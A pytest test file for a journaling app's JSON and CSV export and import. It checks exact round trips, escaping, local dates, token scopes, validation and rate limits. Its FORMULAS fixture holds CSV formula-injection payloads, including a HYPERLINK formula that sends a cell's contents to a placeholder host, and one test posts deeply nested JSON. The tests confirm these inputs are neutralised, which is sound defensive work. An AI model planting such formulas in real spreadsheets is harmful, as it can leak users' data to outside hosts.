"""Import gives back exactly what was exported: same account (nothing changes), new account (all equal).

Every path: ``POST /import`` with JSON and CSV, and ``synclog import``.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from app.cli import main
from app.core.settings import Settings
from app.main import create_app
from tests.factories import bearer, make_entry, make_goal, make_token, register

FORMATS = ("json", "csv")
CONTENT_TYPES = {"json": "application/json", "csv": "text/csv"}
FORMULAS: dict[str, Any] = {
    "note": '=HYPERLINK("https://example.invalid/?"&A2,"open")',
    "meaning": "+SUM(1,1)",
    "tags": ["@x"],
    "people": ["-1+2"],
    "place": "\tLisbon",
}


def export(client: TestClient, export_format: str, **headers: str) -> bytes:
    response = client.get("/api/v1/export", params={"format": export_format}, headers=headers)
    assert response.status_code == 200, response.text
    content: bytes = response.content
    return content


def import_(client: TestClient, content: bytes, export_format: str, **headers: str) -> Any:
    headers = {"Content-Type": CONTENT_TYPES[export_format], **headers}
    return client.post("/api/v1/import", content=content, headers=headers)


def stored(client: TestClient) -> dict[str, Any]:
    """Goals and entries as the JSON export gives them (versions and times included)."""
    document: dict[str, Any] = json.loads(export(client, "json"))
    return {"goals": document["goals"], "entries": document["entries"], "user": document["user"]}


def awkward_journal(client: TestClient) -> None:
    """The values the issue's CSV round trip lost, a goal deleted and an entry deleted after the export."""
    health = make_goal(client, title="Health; fitness")
    make_entry(client, occurred_at="2026-11-20T09:00:00Z", tags=["rock; roll", " x"], people=["Ann;Bob"], place="")
    make_entry(client, occurred_at="2026-11-21T09:00:00Z", goal_ids=[health["id"]], note="'quoted' and \\ back")
    make_entry(client, occurred_at="2026-11-22T09:00:00Z", note="", place=None, tags=["trailing "])


@pytest.mark.parametrize("export_format", FORMATS)
def test_the_accounts_own_export_changes_nothing(client: TestClient, export_format: str) -> None:
    register(client)
    awkward_journal(client)
    doomed_goal = make_goal(client, title="Gone later")
    doomed_entry = make_entry(client, occurred_at="2026-11-23T09:00:00Z", goal_ids=[doomed_goal["id"]])
    tied = make_entry(client, occurred_at="2026-11-24T09:00:00Z", goal_ids=[doomed_goal["id"]], tags=["a"])
    content = export(client, export_format)
    assert client.delete(f"/api/v1/goals/{doomed_goal['id']}").status_code == 204
    assert client.delete(f"/api/v1/entries/{doomed_entry['id']}").status_code == 204
    before = stored(client)
    response = import_(client, content, export_format)
    assert response.status_code == 200, response.text
    assert response.json()["entries"] == {"created": 0, "updated": 0, "skipped": 5}
    assert stored(client) == before
    assert client.get(f"/api/v1/entries/{doomed_entry['id']}").status_code == 410
    assert client.get(f"/api/v1/entries/{tied['id']}").json()["goal_ids"] == []


def test_csv_cells_keep_separators_spaces_and_empty_strings(client: TestClient) -> None:
    register(client)
    awkward_journal(client)
    rows = list(csv.DictReader(io.StringIO(export(client, "csv").decode(), newline="")))
    assert [row["tags"] for row in rows] == ["rock\\; roll; \\ x", "", "trailing\\ "]
    assert [row["people"] for row in rows] == ["Ann\\;Bob", "", ""]
    assert [row["place"] for row in rows] == ["'", "", ""]
    assert rows[1]["goals"] == "Health\\; fitness"
    assert rows[1]["note"] == "''quoted' and \\ back"


def test_formula_cells_are_quoted_and_the_quote_is_removed_again(client: TestClient) -> None:
    register(client)
    writer = make_token(client, scopes=("entries:write",))
    body = {"occurred_at": "2026-11-20T09:00:00Z", **FORMULAS}
    response = client.post("/api/v1/entries", json=body, headers=bearer(writer))
    assert response.status_code == 201, response.text
    content = export(client, "csv")
    row = next(csv.DictReader(io.StringIO(content.decode(), newline="")))
    assert row["note"] == "'" + FORMULAS["note"]
    assert row["meaning"] == "'+SUM(1,1)"
    assert row["tags"] == "'@x"
    assert row["people"] == "'-1+2"
    assert row["place"] == "'\tLisbon"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    before = stored(client)
    assert import_(client, content, "csv").json()["entries"] == {"created": 0, "updated": 0, "skipped": 1}
    assert stored(client) == before
    register(client)
    assert import_(client, content, "csv").json()["entries"]["created"] == 1
    copy = stored(client)["entries"][0]
    assert {name: copy[name] for name in FORMULAS} == FORMULAS


def berlin_streak(client: TestClient) -> None:
    """02:30 in Berlin on three days with day start 0, then two more with day start 4: days 20 to 24."""
    register(client, timezone="Europe/Berlin")
    for day in (20, 21, 22):
        make_entry(client, occurred_at=f"2026-11-{day}T01:30:00Z", timezone="Europe/Berlin")
    client.patch("/api/v1/me", json={"day_start_hour": 4}).raise_for_status()
    for day in (24, 25):
        make_entry(client, occurred_at=f"2026-11-{day}T01:30:00Z", timezone="Europe/Berlin")


def streak(client: TestClient) -> int:
    response = client.get("/api/v1/summary", params={"as_of": "2026-11-24"})
    assert response.status_code == 200, response.text
    length: int = response.json()["overall"]["current"]["length"]
    return length


def local_dates(client: TestClient) -> list[str]:
    return sorted(entry["local_date"] for entry in stored(client)["entries"])


@pytest.mark.parametrize("export_format", FORMATS)
def test_import_keeps_each_entrys_local_date(client: TestClient, export_format: str) -> None:
    berlin_streak(client)
    assert streak(client) == 5
    content, dates = export(client, export_format), local_dates(client)
    assert dates == ["2026-11-20", "2026-11-21", "2026-11-22", "2026-11-23", "2026-11-24"]
    register(client, timezone="Europe/Berlin")
    client.patch("/api/v1/me", json={"day_start_hour": 4}).raise_for_status()
    assert import_(client, content, export_format).status_code == 200
    assert local_dates(client) == dates
    assert streak(client) == 5


def test_synclog_import_keeps_each_entrys_local_date(client: TestClient, database_url: str, tmp_path: Path) -> None:
    berlin_streak(client)
    path = tmp_path / "berlin.json"
    path.write_bytes(export(client, "json"))
    register(client, email="bo@example.org")
    result = CliRunner().invoke(
        main, ["import", "--email", "bo@example.org", str(path)], env={"SYNCLOG_DATABASE_URL": database_url}
    )
    assert result.exit_code == 0, result.output
    assert "Settings: updated." in result.stdout
    assert client.get("/api/v1/me").json()["day_start_hour"] == 4
    assert local_dates(client) == ["2026-11-20", "2026-11-21", "2026-11-22", "2026-11-23", "2026-11-24"]
    assert streak(client) == 5


@pytest.mark.parametrize("local_date", ["2026-11-18", "2026-11-21", "someday"])
def test_a_local_date_far_from_occurred_at_is_a_bad_row(client: TestClient, local_date: str) -> None:
    register(client)
    entry = make_entry(client, occurred_at="2026-11-20T09:00:00Z", timezone="UTC")
    document = json.loads(export(client, "json"))
    document["entries"][0].update(id="00000000-0000-4000-8000-0000000000f1", local_date=local_date)
    response = import_(client, json.dumps(document).encode(), "json")
    assert response.status_code == 422
    assert response.json()["detail"].startswith("entries[0]: local_date")
    assert [item["id"] for item in stored(client)["entries"]] == [entry["id"]]


def test_a_token_import_leaves_the_account_settings_alone(client: TestClient) -> None:
    register(client, timezone="Europe/Lisbon")
    token = make_token(client, scopes=("export", "entries:write", "goals:write"))
    document = json.loads(export(client, "json"))
    document["user"].update(timezone="Pacific/Apia", day_start_hour=23, grace_days=3)
    content = json.dumps(document).encode()
    me = client.get("/api/v1/me").json()
    response = import_(client, content, "json", **bearer(token))
    assert response.status_code == 200, response.text
    assert response.json()["settings"] == "skipped"
    assert client.get("/api/v1/me").json() == me
    assert import_(client, content, "json").json()["settings"] == "updated"
    assert client.get("/api/v1/me").json()["timezone"] == "Pacific/Apia"


def test_deeply_nested_json_is_a_validation_error(client: TestClient) -> None:
    register(client)
    response = import_(client, b"[" * 100_000 + b"]" * 100_000, "json")
    assert response.status_code == 422
    assert response.json()["code"] == "validation_error"


@pytest.mark.parametrize("export_format", FORMATS)
def test_a_source_over_60_characters_is_a_bad_row(client: TestClient, export_format: str) -> None:
    register(client)
    make_entry(client, occurred_at="2026-11-20T09:00:00Z")
    content = export(client, export_format).replace(b"web", b"w" * 61)
    register(client)
    response = import_(client, content, export_format)
    assert response.status_code == 422
    named = "entries[0]: source" if export_format == "json" else "row 2: source"
    assert response.json()["detail"].startswith(named)
    assert stored(client)["entries"] == []


def test_eleven_imports_in_an_hour_are_rate_limited(database_url: str) -> None:
    application = create_app(Settings(database_url=database_url, rate_limits="on"))
    with TestClient(application) as client:
        register(client)
        empty = json.dumps({"format": "synclog-export", "version": 1, "goals": [], "entries": []}).encode()
        for _ in range(10):
            assert import_(client, empty, "json").status_code == 200
        refused = import_(client, empty, "json")
        assert refused.status_code == 429
        assert refused.json()["code"] == "rate_limited"
        assert int(refused.headers["retry-after"]) > 0
    application.state.database.dispose()


def test_a_bad_last_row_fails_before_anything_is_written(client: TestClient) -> None:
    register(client)
    rows = [f"2026-11-{day:02}T09:00:00Z,fine" for day in range(1, 21)]
    table = "occurred_at,note\r\n" + "\r\n".join([*rows, "2026-11-21T09:00:00Z,'" + "x" * 10_001]) + "\r\n"
    response = import_(client, table.encode(), "csv")
    assert response.status_code == 422
    assert response.json()["detail"].startswith("row 22: note")
    assert stored(client)["entries"] == []
